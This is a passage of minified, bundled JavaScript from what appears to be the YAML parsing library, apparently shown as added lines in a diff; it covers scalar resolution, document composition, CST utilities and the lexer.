LM(n,e,t){let{offset:s,type:i,source:r,end:o}=n,a,c,l=(d,f,m)=>t(s+d,f,m);switch(i){case"scalar":a=bu.Scalar.PLAIN,c=DM(r,l);break;case"single-quoted-scalar":a=bu.Scalar.QUOTE_SINGLE,c=TM(r,l);break;case"double-quoted-scalar":a=bu.Scalar.QUOTE_DOUBLE,c=jM(r,l);break;default:return t(n,"UNEXPECTED_TOKEN",`Expected a flow scalar value, but found: ${i}`),{value:"",type:null,comment:"",range:[s,s+r.length,s+r.length]}}let u=s+r.length,p=CM.resolveEnd(o,u,e,t);return{value:c,type:a,comment:p.comment,range:[s,u,p.offset]}}function DM(n,e){let t="";switch(n[0]){case"	":t="a tab character";break;case",":t="flow indicator character ,";break;case"%":t="directive indicator character %";break;case"|":case">":{t=`block scalar indicator ${n[0]}`;break}case"@":case"`":{t=`reserved character ${n[0]}`;break}}return t&&e(0,"BAD_SCALAR_START",`Plain value cannot start with ${t}`),Ym(n)}function TM(n,e){return(n[n.length-1]!=="'"||n.length===1)&&e(n.length,"MISSING_CHAR","Missing closing 'quote"),Ym(n.slice(1,-1)).replace(/''/g,"'")}function Ym(n){let e=/(.*?)\r?\n/sy,t=e.exec(n);if(!t)return n;let s,i;try{s=new RegExp("(?<![ 	])[ 	]+$"),i=new RegExp("^[ 	]+|(?<![ 	])[ 	]+$","g")}catch{s=/[ \t]+$/,i=/^[ \t]+|[ \t]+$/g}let r=t[1].replace(s,""),o=" ",a=e.lastIndex;for(;t=e.exec(n);){let l=t[1].replace(i,"");l===""?o===`
+`?r+=o:o=`
+`:(r+=o+l,o=" "),a=e.lastIndex}let c=/[ \t]*(.*)/sy;return c.lastIndex=a,t=c.exec(n),r+o+(t?.[1]??"")}function jM(n,e){let t="";for(let s=1;s<n.length-1;++s){let i=n[s];if(!(i==="\r"&&n[s+1]===`
+`))if(i===`
+`){let{fold:r,offset:o}=_M(n,s);t+=r,s=o}else if(i==="\\"){let r=n[++s],o=$M[r];if(o)t+=o;else if(r===`
+`)for(r=n[s+1];r===" "||r==="	";)r=n[++s+1];else if(r==="\r"&&n[s+1]===`
+`)for(r=n[++s+1];r===" "||r==="	";)r=n[++s+1];else if(r==="x"||r==="u"||r==="U"){let a=r==="x"?2:r==="u"?4:8;t+=IM(n,s+1,a,e),s+=a}else{let a=n.substr(s-1,2);e(s-1,"BAD_DQ_ESCAPE",`Invalid escape sequence ${a}`),t+=a}}else if(i===" "||i==="	"){let r=s,o=n[s+1];for(;o===" "||o==="	";)o=n[++s+1];o!==`
+`&&!(o==="\r"&&n[s+2]===`
+`)&&(t+=s>r?n.slice(r,s+1):i)}else t+=i}return(n[n.length-1]!=='"'||n.length===1)&&e(n.length,"MISSING_CHAR",'Missing closing "quote'),t}function _M(n,e){let t="",s=n[e+1];for(;(s===" "||s==="	"||s===`
+`||s==="\r")&&!(s==="\r"&&n[e+2]!==`
+`);)s===`
+`&&(t+=`
+`),e+=1,s=n[e+1];return t||(t=" "),{fold:t,offset:e}}var $M={0:"\0",a:"\x07",b:"\b",e:"\x1B",f:"\f",n:`
+`,r:"\r",t:"	",v:"\v",N:"\x85",_:"\xA0",L:"\u2028",P:"\u2029"," ":" ",'"':'"',"/":"/","\\":"\\","	":"	"};function IM(n,e,t,s){let i=n.substr(e,t),o=i.length===t&&/^[0-9a-fA-F]+$/.test(i)?parseInt(i,16):NaN;try{return String.fromCodePoint(o)}catch{let a=n.substr(e-2,t+2);return s(e-2,"BAD_DQ_ESCAPE",`Invalid escape sequence ${a}`),a}}Bm.resolveFlowScalar=LM});var Vm=x(Gm=>{"use strict";var Bt=I(),Wm=Q(),PM=yu(),qM=wu();function UM(n,e,t,s){let{value:i,type:r,comment:o,range:a}=e.type==="block-scalar"?PM.resolveBlockScalar(n,e,s):qM.resolveFlowScalar(e,n.options.strict,s),c=t?n.directives.tagName(t.source,p=>s(t,"TAG_RESOLVE_FAILED",p)):null,l;n.options.stringKeys&&n.atKey?l=n.schema[Bt.SCALAR]:c?l=HM(n.schema,i,c,t,s):e.type==="scalar"?l=YM(n,i,e,s):l=n.schema[Bt.SCALAR];let u;try{let p=l.resolve(i,d=>s(t??e,"TAG_RESOLVE_FAILED",d),n.options);u=Bt.isScalar(p)?p:new Wm.Scalar(p)}catch(p){let d=p instanceof Error?p.message:String(p);s(t??e,"TAG_RESOLVE_FAILED",d),u=new Wm.Scalar(i)}return u.range=a,u.source=i,r&&(u.type=r),c&&(u.tag=c),l.format&&(u.format=l.format),o&&(u.comment=o),u}function HM(n,e,t,s,i){if(t==="!")return n[Bt.SCALAR];let r=[];for(let a of n.tags)if(!a.collection&&a.tag===t)if(a.default&&a.test)r.push(a);else return a;for(let a of r)if(a.test?.test(e))return a;let o=n.knownTags[t];return o&&!o.collection?(n.tags.push(Object.assign({},o,{default:!1,test:void 0})),o):(i(s,"TAG_RESOLVE_FAILED",`Unresolved tag: ${t}`,t!=="tag:yaml.org,2002:str"),n[Bt.SCALAR])}function YM({atKey:n,directives:e,schema:t},s,i,r){let o=t.tags.find(a=>(a.default===!0||n&&a.default==="key")&&a.test?.test(s))||t[Bt.SCALAR];if(t.compat){let a=t.compat.find(c=>c.default&&c.test?.test(s))??t[Bt.SCALAR];if(o.tag!==a.tag){let c=e.tagString(o.tag),l=e.tagString(a.tag),u=`Value may be parsed as either ${c} or ${l}`;r(i,"TAG_RESOLVE_FAILED",u,!0)}}return o}Gm.composeScalar=UM});var Jm=x(zm=>{"use strict";function BM(n,e,t){if(e){t??(t=e.length);for(let s=t-1;s>=0;--s){let i=e[s];switch(i.type){case"space":case"comment":case"newline":n-=i.source.length;continue}for(i=e[++s];i?.type==="space";)n+=i.source.length,i=e[++s];break}}return n}zm.emptyScalarPosition=BM});var Zm=x(ku=>{"use strict";var WM=gs(),GM=I(),VM=Um(),Km=Vm(),zM=Fn(),JM=Jm(),KM={composeNode:Xm,composeEmptyNode:vu};function Xm(n,e,t,s){let i=n.atKey,{spaceBefore:r,comment:o,anchor:a,tag:c}=t,l,u=!0;switch(e.type){case"alias":l=XM(n,e,s),(a||c)&&s(e,"ALIAS_PROPS","An alias node must not specify any properties");break;case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":case"block-scalar":l=Km.composeScalar(n,e,c,s),a&&(l.anchor=a.source.substring(1));break;case"block-map":case"block-seq":case"flow-collection":try{l=VM.composeCollection(KM,n,e,t,s),a&&(l.anchor=a.source.substring(1))}catch(p){let d=p instanceof Error?p.message:String(p);s(e,"RESOURCE_EXHAUSTION",d)}break;default:{let p=e.type==="error"?e.message:`Unsupported token (type: ${e.type})`;s(e,"UNEXPECTED_TOKEN",p),u=!1}}return l??(l=vu(n,e.offset,void 0,null,t,s)),a&&l.anchor===""&&s(a,"BAD_ALIAS","Anchor cannot be an empty string"),i&&n.options.stringKeys&&(!GM.isScalar(l)||typeof l.value!="string"||l.tag&&l.tag!=="tag:yaml.org,2002:str")&&s(c??e,"NON_STRING_KEY","With stringKeys, all keys must be strings"),r&&(l.spaceBefore=!0),o&&(e.type==="scalar"&&e.source===""?l.comment=o:l.commentBefore=o),n.options.keepSourceTokens&&u&&(l.srcToken=e),l}function vu(n,e,t,s,{spaceBefore:i,comment:r,anchor:o,tag:a,end:c},l){let u={type:"scalar",offset:JM.emptyScalarPosition(e,t,s),indent:-1,source:""},p=Km.composeScalar(n,u,a,l);return o&&(p.anchor=o.source.substring(1),p.anchor===""&&l(o,"BAD_ALIAS","Anchor cannot be an empty string")),i&&(p.spaceBefore=!0),r&&(p.comment=r,p.range[2]=c),p}function XM({options:n},{offset:e,source:t,end:s},i){let r=new WM.Alias(t.substring(1));r.source===""&&i(e,"BAD_ALIAS","Alias cannot be an empty string"),r.source.endsWith(":")&&i(e+t.length-1,"BAD_ALIAS","Alias ending in : is ambiguous",!0);let o=e+t.length,a=zM.resolveEnd(s,o,n.strict,i);return r.range=[e,o,a.offset],a.comment&&(r.comment=a.comment),r}ku.composeEmptyNode=vu;ku.composeNode=Xm});var th=x(eh=>{"use strict";var ZM=Fs(),Qm=Zm(),QM=Fn(),eA=Ts();function tA(n,e,{offset:t,start:s,value:i,end:r},o){let a=Object.assign({_directives:e},n),c=new ZM.Document(void 0,a),l={atKey:!1,atRoot:!0,directives:c.directives,options:c.options,schema:c.schema},u=eA.resolveProps(s,{indicator:"doc-start",next:i??r?.[0],offset:t,onError:o,parentIndent:0,startOnNewline:!0});u.found&&(c.directives.docStart=!0,i&&(i.type==="block-map"||i.type==="block-seq")&&!u.hasNewline&&o(u.end,"MISSING_CHAR","Block collection cannot start on same line with directives-end marker")),c.contents=i?Qm.composeNode(l,i,u,o):Qm.composeEmptyNode(l,u.end,s,null,u,o);let p=c.contents.range[2],d=QM.resolveEnd(r,p,!1,o);return d.comment&&(c.comment=d.comment),c.range=[t,p,d.offset],c}eh.composeDoc=tA});var Ru=x(ih=>{"use strict";var nA=require("process"),sA=cl(),iA=Fs(),js=Ds(),nh=I(),rA=th(),oA=Fn();function _s(n){if(typeof n=="number")return[n,n+1];if(Array.isArray(n))return n.length===2?n:[n[0],n[1]];let{offset:e,source:t}=n;return[e,e+(typeof t=="string"?t.length:1)]}function sh(n){let e="",t=!1,s=!1;for(let i=0;i<n.length;++i){let r=n[i];switch(r[0]){case"#":e+=(e===""?"":s?`
+
+`:`
+`)+(r.substring(1)||" "),t=!0,s=!1;break;case"%":n[i+1]?.[0]!=="#"&&(i+=1),t=!1;break;default:t||(s=!0),t=!1}}return{comment:e,afterEmptyLine:s}}var xu=class{constructor(e={}){this.doc=null,this.atDirectives=!1,this.prelude=[],this.errors=[],this.warnings=[],this.onError=(t,s,i,r)=>{let o=_s(t);r?this.warnings.push(new js.YAMLWarning(o,s,i)):this.errors.push(new js.YAMLParseError(o,s,i))},this.directives=new sA.Directives({version:e.version||"1.2"}),this.options=e}decorate(e,t){let{comment:s,afterEmptyLine:i}=sh(this.prelude);if(s){let r=e.contents;if(t)e.comment=e.comment?`${e.comment}
+${s}`:s;else if(i||e.directives.docStart||!r)e.commentBefore=s;else if(nh.isCollection(r)&&!r.flow&&r.items.length>0){let o=r.items[0];nh.isPair(o)&&(o=o.key);let a=o.commentBefore;o.commentBefore=a?`${s}
+${a}`:s}else{let o=r.commentBefore;r.commentBefore=o?`${s}
+${o}`:s}}if(t){for(let r=0;r<this.errors.length;++r)e.errors.push(this.errors[r]);for(let r=0;r<this.warnings.length;++r)e.warnings.push(this.warnings[r])}else e.errors=this.errors,e.warnings=this.warnings;this.prelude=[],this.errors=[],this.warnings=[]}streamInfo(){return{comment:sh(this.prelude).comment,directives:this.directives,errors:this.errors,warnings:this.warnings}}*compose(e,t=!1,s=-1){for(let i of e)yield*this.next(i);yield*this.end(t,s)}*next(e){switch(nA.env.LOG_STREAM&&console.dir(e,{depth:null}),e.type){case"directive":this.directives.add(e.source,(t,s,i)=>{let r=_s(e);r[0]+=t,this.onError(r,"BAD_DIRECTIVE",s,i)}),this.prelude.push(e.source),this.atDirectives=!0;break;case"document":{let t=rA.composeDoc(this.options,this.directives,e,this.onError);this.atDirectives&&!t.directives.docStart&&this.onError(e,"MISSING_CHAR","Missing directives-end/doc-start indicator line"),this.decorate(t,!1),this.doc&&(yield this.doc),this.doc=t,this.atDirectives=!1;break}case"byte-order-mark":case"space":break;case"comment":case"newline":this.prelude.push(e.source);break;case"error":{let t=e.source?`${e.message}: ${JSON.stringify(e.source)}`:e.message,s=new js.YAMLParseError(_s(e),"UNEXPECTED_TOKEN",t);this.atDirectives||!this.doc?this.errors.push(s):this.doc.errors.push(s);break}case"doc-end":{if(!this.doc){let s="Unexpected doc-end without preceding document";this.errors.push(new js.YAMLParseError(_s(e),"UNEXPECTED_TOKEN",s));break}this.doc.directives.docEnd=!0;let t=oA.resolveEnd(e.end,e.offset+e.source.length,this.doc.options.strict,this.onError);if(this.decorate(this.doc,!0),t.comment){let s=this.doc.comment;this.doc.comment=s?`${s}
+${t.comment}`:t.comment}this.doc.range[2]=t.offset;break}default:this.errors.push(new js.YAMLParseError(_s(e),"UNEXPECTED_TOKEN",`Unsupported token ${e.type}`))}}*end(e=!1,t=-1){if(this.doc)this.decorate(this.doc,!0),yield this.doc,this.doc=null;else if(e){let s=Object.assign({_directives:this.directives},this.options),i=new iA.Document(void 0,s);this.atDirectives&&this.onError(t,"MISSING_CHAR","Missing directives-end indicator line"),i.range=[0,t,t],this.decorate(i,!1),yield i}}};ih.Composer=xu});var ah=x(io=>{"use strict";var aA=yu(),cA=wu(),lA=Ds(),rh=ws();function uA(n,e=!0,t){if(n){let s=(i,r,o)=>{let a=typeof i=="number"?i:Array.isArray(i)?i[0]:i.offset;if(t)t(a,r,o);else throw new lA.YAMLParseError([a,a+1],r,o)};switch(n.type){case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":return cA.resolveFlowScalar(n,e,s);case"block-scalar":return aA.resolveBlockScalar({options:{strict:e}},n,s)}}return null}function pA(n,e){let{implicitKey:t=!1,indent:s,inFlow:i=!1,offset:r=-1,type:o="PLAIN"}=e,a=rh.stringifyString({type:o,value:n},{implicitKey:t,indent:s>0?" ".repeat(s):"",inFlow:i,options:{blockQuote:!0,lineWidth:-1}}),c=e.end??[{type:"newline",offset:-1,indent:s,source:`
+`}];switch(a[0]){case"|":case">":{let l=a.indexOf(`
+`),u=a.substring(0,l),p=a.substring(l+1)+`
+`,d=[{type:"block-scalar-header",offset:r,indent:s,source:u}];return oh(d,c)||d.push({type:"newline",offset:-1,indent:s,source:`
+`}),{type:"block-scalar",offset:r,indent:s,props:d,source:p}}case'"':return{type:"double-quoted-scalar",offset:r,indent:s,source:a,end:c};case"'":return{type:"single-quoted-scalar",offset:r,indent:s,source:a,end:c};default:return{type:"scalar",offset:r,indent:s,source:a,end:c}}}function dA(n,e,t={}){let{afterKey:s=!1,implicitKey:i=!1,inFlow:r=!1,type:o}=t,a="indent"in n?n.indent:null;if(s&&typeof a=="number"&&(a+=2),!o)switch(n.type){case"single-quoted-scalar":o="QUOTE_SINGLE";break;case"double-quoted-scalar":o="QUOTE_DOUBLE";break;case"block-scalar":{let l=n.props[0];if(l.type!=="block-scalar-header")throw new Error("Invalid block scalar header");o=l.source[0]===">"?"BLOCK_FOLDED":"BLOCK_LITERAL";break}default:o="PLAIN"}let c=rh.stringifyString({type:o,value:e},{implicitKey:i||a===null,indent:a!==null&&a>0?" ".repeat(a):"",inFlow:r,options:{blockQuote:!0,lineWidth:-1}});switch(c[0]){case"|":case">":fA(n,c);break;case'"':Ou(n,c,"double-quoted-scalar");break;case"'":Ou(n,c,"single-quoted-scalar");break;default:Ou(n,c,"scalar")}}function fA(n,e){let t=e.indexOf(`
+`),s=e.substring(0,t),i=e.substring(t+1)+`
+`;if(n.type==="block-scalar"){let r=n.props[0];if(r.type!=="block-scalar-header")throw new Error("Invalid block scalar header");r.source=s,n.source=i}else{let{offset:r}=n,o="indent"in n?n.indent:-1,a=[{type:"block-scalar-header",offset:r,indent:o,source:s}];oh(a,"end"in n?n.end:void 0)||a.push({type:"newline",offset:-1,indent:o,source:`
+`});for(let c of Object.keys(n))c!=="type"&&c!=="offset"&&delete n[c];Object.assign(n,{type:"block-scalar",indent:o,props:a,source:i})}}function oh(n,e){if(e)for(let t of e)switch(t.type){case"space":case"comment":n.push(t);break;case"newline":return n.push(t),!0}return!1}function Ou(n,e,t){switch(n.type){case"scalar":case"double-quoted-scalar":case"single-quoted-scalar":n.type=t,n.source=e;break;case"block-scalar":{let s=n.props.slice(1),i=e.length;n.props[0].type==="block-scalar-header"&&(i-=n.props[0].source.length);for(let r of s)r.offset+=i;delete n.props,Object.assign(n,{type:t,source:e,end:s});break}case"block-map":case"block-seq":{let i={type:"newline",offset:n.offset+e.length,indent:n.indent,source:`
+`};delete n.items,Object.assign(n,{type:t,source:e,end:[i]});break}default:{let s="indent"in n?n.indent:-1,i="end"in n&&Array.isArray(n.end)?n.end.filter(r=>r.type==="space"||r.type==="comment"||r.type==="newline"):[];for(let r of Object.keys(n))r!=="type"&&r!=="offset"&&delete n[r];Object.assign(n,{type:t,indent:s,source:e,end:i})}}}io.createScalarToken=pA;io.resolveAsScalar=uA;io.setScalarValue=dA});var lh=x(ch=>{"use strict";var gA=n=>"type"in n?oo(n):ro(n);function oo(n){switch(n.type){case"block-scalar":{let e="";for(let t of n.props)e+=oo(t);return e+n.source}case"block-map":case"block-seq":{let e="";for(let t of n.items)e+=ro(t);return e}case"flow-collection":{let e=n.start.source;for(let t of n.items)e+=ro(t);for(let t of n.end)e+=t.source;return e}case"document":{let e=ro(n);if(n.end)for(let t of n.end)e+=t.source;return e}default:{let e=n.source;if("end"in n&&n.end)for(let t of n.end)e+=t.source;return e}}}function ro({start:n,key:e,sep:t,value:s}){let i="";for(let r of n)i+=r.source;if(e&&(i+=oo(e)),t)for(let r of t)i+=r.source;return s&&(i+=oo(s)),i}ch.stringify=gA});var fh=x(dh=>{"use strict";var Su=Symbol("break visit"),mA=Symbol("skip children"),uh=Symbol("remove item");function Wt(n,e){"type"in n&&n.type==="document"&&(n={start:n.start,value:n.value}),ph(Object.freeze([]),n,e)}Wt.BREAK=Su;Wt.SKIP=mA;Wt.REMOVE=uh;Wt.itemAtPath=(n,e)=>{let t=n;for(let[s,i]of e){let r=t?.[s];if(r&&"items"in r)t=r.items[i];else return}return t};Wt.parentCollection=(n,e)=>{let t=Wt.itemAtPath(n,e.slice(0,-1)),s=e[e.length-1][0],i=t?.[s];if(i&&"items"in i)return i;throw new Error("Parent collection not found")};function ph(n,e,t){let s=t(e,n);if(typeof s=="symbol")return s;for(let i of["key","value"]){let r=e[i];if(r&&"items"in r){for(let o=0;o<r.items.length;++o){let a=ph(Object.freeze(n.concat([[i,o]])),r.items[o],t);if(typeof a=="number")o=a-1;else{if(a===Su)return Su;a===uh&&(r.items.splice(o,1),o-=1)}}typeof s=="function"&&i==="key"&&(s=s(e,n))}}return typeof s=="function"?s(e,n):s}dh.visit=Wt});var ao=x(ve=>{"use strict";var Mu=ah(),hA=lh(),yA=fh(),Au="\uFEFF",Nu="",Eu="",Fu="",bA=n=>!!n&&"items"in n,wA=n=>!!n&&(n.type==="scalar"||n.type==="single-quoted-scalar"||n.type==="double-quoted-scalar"||n.type==="block-scalar");function vA(n){switch(n){case Au:return"<BOM>";case Nu:return"<DOC>";case Eu:return"<FLOW_END>";case Fu:return"<SCALAR>";default:return JSON.stringify(n)}}function kA(n){switch(n){case Au:return"byte-order-mark";case Nu:return"doc-mode";case Eu:return"flow-error-end";case Fu:return"scalar";case"---":return"doc-start";case"...":return"doc-end";case"":case`
+`:case`\r
+`:return"newline";case"-":return"seq-item-ind";case"?":return"explicit-key-ind";case":":return"map-value-ind";case"{":return"flow-map-start";case"}":return"flow-map-end";case"[":return"flow-seq-start";case"]":return"flow-seq-end";case",":return"comma"}switch(n[0]){case" ":case"	":return"space";case"#":return"comment";case"%":return"directive-line";case"*":return"alias";case"&":return"anchor";case"!":return"tag";case"'":return"single-quoted-scalar";case'"':return"double-quoted-scalar";case"|":case">":return"block-scalar-header"}return null}ve.createScalarToken=Mu.createScalarToken;ve.resolveAsScalar=Mu.resolveAsScalar;ve.setScalarValue=Mu.setScalarValue;ve.stringify=hA.stringify;ve.visit=yA.visit;ve.BOM=Au;ve.DOCUMENT=Nu;ve.FLOW_END=Eu;ve.SCALAR=Fu;ve.isCollection=bA;ve.isScalar=wA;ve.prettyToken=vA;ve.tokenType=kA});var Du=x(mh=>{"use strict";var $s=ao();function _e(n){switch(n){case void 0:case" ":case`
+`:case"\r":case"	":return!0;default:return!1}}var gh=new Set("0123456789ABCDEFabcdef"),xA=new Set("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-#;/?:@&=+$_.!~*'()"),co=new Set(",[]{}"),RA=new Set(` ,[]{}
+\r	`),Cu=n=>!n||RA.has(n),Lu=class{constructor(){this.atEnd=!1,this.blockScalarIndent=-1,this.blockScalarKeep=!1,this.buffer="",this.flowKey=!1,this.flowLevel=0,this.indentNext=0,this.indentValue=0,this.lineEndPos=null,this.next=null,this.pos=0}*lex(e,t=!1){if(e){if(typeof e!="string")throw TypeError("source is not a string");this.buffer=this.buffer?this.buffer+e:e,this.lineEndPos=null}this.atEnd=!t;let s=this.next??"stream";for(;s&&(t||this.hasChars(1));)s=yield*this.parseNext(s)}atLineEnd(){let e=this.pos,t=this.buffer[e];for(;t===" "||t==="	";)t=this.buffer[++e];return!t||t==="#"||t===`
+`?!0:t==="\r"?this.buffer[e+1]===`
+`:!1}charAt(e){return this.buffer[this.pos+e]}continueScalar(e){let t=this.buffer[e];if(this.indentNext>0){let s=0;for(;t===" ";)t=this.buffer[++s+e];if(t==="\r"){let i=this.buffer[s+e+1];if(i===`
+`||!i&&!this.atEnd)return e+s+1}return t===`
+`||s>=this.indentNext||!t&&!this.atEnd?e+s:-1}if(t==="-"||t==="."){let s=this.buffer.substr(e,3);if((s==="---"||s==="...")&&_e(this.buffer[e+3]))return-1}return e}getLine(){let e=this.lineEndPos;return(typeof e!="number"||e!==-1&&e<this.pos)&&(e=this.buffer.indexOf(`
+`,this.pos),this.lineEndPos=e),e===-1?this.atEnd?this.buffer.substring(this.pos):null:(this.buffer[e-1]==="\r"&&(e-=1),this.buffer.substring(this.pos,e))}hasChars(e){return this.pos+e<=this.buffer.length}setNext(e){return this.buffer=this.buffer.substring(this.pos),this.pos=0,this.lineEndPos=null,this.next=e,null}peek(e){return this.buffer.substr(this.pos,e)}*parseNext(e){switch(e){case"stream":return yield*this.parseStream();case"line-start":return yield*this.parseLineStart();case"block-start":return yield*this.parseBlockStart();case"doc":return yield*this.parseDocument();case"flow":return yield*this.parseFlowCollection();case"quoted-scalar":return yield*this.parseQuotedScalar();case"block-scalar":return yield*this.parseBlockScalar();case"plain-scalar":return yield*this.parsePlainScalar()}}*parseStream(){let e=this.getLine();if(e===null)return this.setNext("stream");if(e[0]===$s.BOM&&(yield*this.pushCount(1),e=e.substring(1)),e[0]==="%"){let t=e.length,s=e.indexOf("#");for(;s!==-1;){let r=e[s-1];if(r===" "||r==="	"){t=s-1;break}else s=e.indexOf("#",s+1)}for(;;){let r=e[t-1];if(r===" "||r==="	")t-=1;else break}let i=(yield*this.pushCount(t))+(yield*this.pushSpaces(!0));return yield*this.pushCount(e.length-i),this.pushNewline(),"stream"}if(this.atLineEnd()){let t=yield*this.pushSpaces(!0);return yield*this.pushCount(e.length-t),yield*this.pushNewline(),"stream"}return yield $s.DOCUMENT,yield*this.parseLineStart()}*parseLineStart(){let e=this.charAt(0);if(!e&&!this.atEnd)return this.setNext("line-start");if(e==="-"||e==="."){if(!this.atEnd&&!this.hasChars(4))return this.setNext("line-start");let t=this.peek(3);if((t==="---"||t==="...")&&_e(this.charAt(3)))return yield*this.pushCount(3),this.indentValue=0,this.indentNext=0,t==="---"?"doc":"stream"}return this.indentValue=yield*this.pushSpaces(!1),this.indentNext>this.indentValue&&!_e(this.charAt(1))&&(this.indentNext=this.indentValue),yield*this.parseBlockStart()}*parseBlockStart(){let[e,t]=this.peek(2);if(!t&&!this.atEnd)return this.setNext("block-start");if((e==="-"||e==="?"||e===":")&&_e(t)){let s=(yield*this.pushCount(1))+(yield*this.pushSpaces(!0));return this.indentNext=this.indentValue+1,this.indentValue+=s,"block-start"}return"doc"}*parseDocument(){yield*this.pushSpaces(!0);let e=this.getLine();if(e===null)return this.setNext("doc");let t=yield*this.pushIndicators();switch(e[t]){case"#":yield*this.pushCount(e.length-t);case void 0:return yield*this.pushNewline(),yield*this.parseLineStart();case"{":case"[":return yield*this.pushCount(1),this.flowKey=!1,this.flowLevel=1,"flow";case"}":case"]":return yield*this.pushCount(1),"doc";case"*":return yield*this.pushUntil(Cu),"doc";case'"':case"'":return yield*this.parseQuotedScalar();case"|":case">":return t+=yield*this.parseBlockScalarHeader(),t+=yield*this.pushSpaces(!0),yield*this.pushCount(e.length-t),yield*this.pushNewline(),yield*this.parseBlockScalar();default:return yield*this.parsePlainScalar()}}*parseFlowCollection(){let e,t,s=-1;do e=yield*this.pushNewline(),e>0?(t=yield*this.pushSpaces(!1),this.indentValue=s=t):t=0,t+=yield*this.pushSpaces(!0);while(e+t>0);let i=this.getLine();if(i===null)return this.setNext("flow");if((s!==-1&&s<this.indentNext&&i[0]!=="#"||s===0&&(i.startsWith("---")||i.startsWith("..."))&&_e(i[3]))&&!(s===this.indentNext-1&&this.flowLevel===1&&(i[0]==="]"||i[0]==="}")))return this.flowLevel=0,yield $s.FLOW_END,yield*this.parseLineStart();let r=0;for(;i[r]===",";)r+=yield*this.pushCount(1),r+=yield*this.pushSpaces(!0),this.flowKey=!1;switch(r+=yield*this.pushIndicators(),i[r]){case void 0:return"flow";case"#":return yield*this.pushCount(i.length-r),"flow";case"{":case"[":return yield*this.pushCount(1),this.flowKey=!1,this.flowLevel+=1,"flow";case"}":case"]":return yield*this.pushCount(1),this.flowKey=!0,this.flowLevel-=1,this.flowLevel?"flow":"doc";case"*":return yield*this.pushUntil(Cu),"flow";case'"':case"'":return this.flowKey=!0,yield*this.parseQuotedScalar();case":":{let o=this.charAt(1);if(this.flowKey||_e(o)||o===",")return this.flowKey=!1,yield*this.pushCount(1),yield*this.pushSpaces(!0),"flow"}default:return this.flowKey=!1,yield*this.parsePlainScalar()}}*parseQuotedScalar(){let e=this.charAt(0),t=this.buffer.indexOf(e,this.pos+1);if(e==="'")for(;t!==-1&&this.buffer[t+1]==="'";)t=this.buffer.indexOf("'",t+2);else for(;t!==-1;){let r=0;for(;this.buffer[t-1-r]==="\\";)r+=1;if(r%2===0)break;t=this.buffer.indexOf('"',t+1)}let s=this.buffer.substring(0,t),i=s.indexOf(`
+`,this.pos);if(i!==-1){for(;i!==-1;){let r=this.continueScalar(i+1);if(r===-1)break;i=s.indexOf(`
+`,r)}i!==-1&&(t=i-(s[i-1]==="\r"?2:1))}if(t===-1){if(!this.atEnd)return this.setNext("quoted-scalar");t=this.buffer.length}return yield*this.pushToIndex(t+1,!1),this.flowLevel?"flow":"doc"}*parseBlockScalarHeader(){this.blockScalarIndent=-1,this.blockScalarKeep=!1;let e=this.pos;for(;;){let t=this.buffer[++e];if(t==="+")this.blockScalarKeep=!0;else if(t>"0"&&t<="9")this.blockScalarIndent=Number(t)-1;else if(t!=="-")break}return yield*this.pushUntil(t=>_e(t)||t==="#")}*parseBlockScalar(){let e=this.pos-1,t=0,s;e:for(let r=this.pos;s=this.buffer[r];++r)switch(s){case" ":t+=1;break;case`
+`:e=r,t=0;break;case"\r":{let o=this.buffer[r+1];if(!o&&!this.atEnd)return this.setNext("block-scalar");if(o===`
+`)break}default:break e}if(!s&&!this.atEnd)return this.setNext("block-scalar");if(t>=this.indentNext){this.blockScalarIndent===-1?this.indentNext=t:this.indentNext=this.blockScalarIndent+(this.indentNext===0?1:this.indentNext);do{let r=this.continueScalar(e+1);if(r===-1)break;e=this.buffer.indexOf(`
+`,r)}while(e!==-1);if(e===-1){if(!this.atEnd)return this.setNext("block-scalar");e=this.buffer.length}}let i=e+1;for(s=this.buffer[i];s===" ";)s=this.buffer[++i];if(s==="	"){for(;s==="	"||s===" "||s==="\r"||s===`
+`;)s=this.buffer[++i];e=i-1}else if(!this.blockScalarKeep)do{let r=e-1,o=this.buffer[r];o==="\r"&&(o=this.buffer[--r]);let a=r;for(;o===" ";)o=this.buffer[--r];if(o===`
+`&&r>=this.pos&&r+1+t>a)e=r;else break}while(!0);return yield $s.SCALAR,yield*this.pushToIndex(e+1,!0),yield*this.parseLineStart()}*parsePlainScalar(){let e=this.flowLevel>0,t=this.pos-1,s=this.pos-1,i;for(;i=this.buffer[++s];)if(i===":"){let r=this.buffer[s+1];if(_e(r)||e&&co.has(r))break;t=s}else if(_e(i)){let r=this.buffer[s+1];if(i==="\r"&&(r===`
+`?(s+=1,i=`
+`,r=this.buffer[s+1]):t=s),r==="#"||e&&co.has(r))break;if(i===`
+`){let o=this.continueScalar(s+1);if(o===-1)break;s=Math.max(s,o-2)}}else{if(e&&co.has(i))break;t=s}return!i&&!this.atEnd?this.setNext("plain-scalar"):(yield $s.SCALAR,yield*this.pushToIndex(t+1,!0),e?"flow":"doc")}*pushCount(e){return e>0?(yield this.buffer.substr(this.pos,e),this.pos+=e,e):0}*pushToIndex(e,t){let s=this.buffer.slice(this.pos,e);return s?(yield s,this.pos+=s.length,s.length):(t&&(yield""),0)}*pushIndicators(){let e=0;e:for(;;){switch(this.charAt(0)){case"!":e+=yield*this.pushTag(),e+=yield*this.pushSpaces(!0);continue e;case"&":e+=yield*this.pushUntil(Cu),e+=yield*this.pushSpaces(!0);continue e;case"-":case"?":case":":{let t=this.flowLevel>0,s=this.charAt(1);if(_e(s)||t&&co.has(s)){t?this.flowKey&&(this.flowKey=!1):this.indentNext=this.indentValue+1,e+=yield*this.pushCount(1),e+=yield*this.pushSpaces(!0);continue e}}}break e}return e}*pushTag(){if(this.charAt(1)==="<"){let e=this.pos+2,t=this.buffer[e];for(;!_e(t)&&t!==">";)t=this.buffer[++e];return yield*this.pushToIndex(t===">"?e+1:e,!1)}else{let e=this.pos+1,t=this.buffer[e];for(;t;)if(xA.has(t))t=this.buffer[++e];else if(t==="%"&&gh.has(this.buffer[e+1])&&gh.has(this.buffer[e+2]))t=this.buffer[e+=3];else break;return yield*this.pushToIndex(e,!1)}}*pushNewline(){let e=this.buffer[this.pos];return e===`
+`?yield*this.pushCount(1):e==="\r"&&this.charAt(1)===`
